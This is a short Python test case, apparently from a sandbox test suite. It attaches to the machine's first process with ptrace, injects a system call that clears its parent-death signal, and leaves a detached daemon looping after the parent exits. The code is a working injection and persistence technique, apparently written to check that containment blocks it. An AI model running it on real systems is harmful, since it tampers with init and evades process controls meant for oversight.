# tries: to take over the machine's first process and to undo that it dies with its parent; a daemon would then live on
# must: pass
import ctypes
import os

import data

data.job()
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
SEIZE, INTERRUPT, GETREGS, SETREGS, CONT, DETACH, PEEK, POKE = 0x4206, 0x4207, 12, 13, 7, 17, 1, 4
PRCTL, DEATHSIG = 157, 1


class Registers(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs gs ds es fs_base gs_base"
    ).split()]


def undo():
    if libc.ptrace(SEIZE, 1, None, None) == -1:
        raise OSError(ctypes.get_errno(), "ptrace")
    libc.ptrace(INTERRUPT, 1, None, None)
    os.waitpid(1, 0x40000000)
    registers = Registers()
    libc.ptrace(GETREGS, 1, None, ctypes.addressof(registers))
    before = Registers.from_buffer_copy(registers)
    # It waits in a system call: the instruction is the two bytes before where it goes on.
    registers.rip -= 2
    registers.rax, registers.orig_rax = PRCTL, 2**64 - 1
    registers.rdi, registers.rsi = DEATHSIG, 0
    libc.ptrace(SETREGS, 1, None, ctypes.addressof(registers))
    libc.ptrace(9, 1, None, None)
    os.waitpid(1, 0x40000000)
    libc.ptrace(SETREGS, 1, None, ctypes.addressof(before))
    libc.ptrace(DETACH, 1, None, None)
    return "undone"


if os.fork() == 0:
    os.setsid()
    for descriptor in range(3):
        os.close(descriptor)
    data.tried(undo)
    while True:
        with open("tick", "w") as file:
            file.write("x")
import time

time.sleep(0.5)
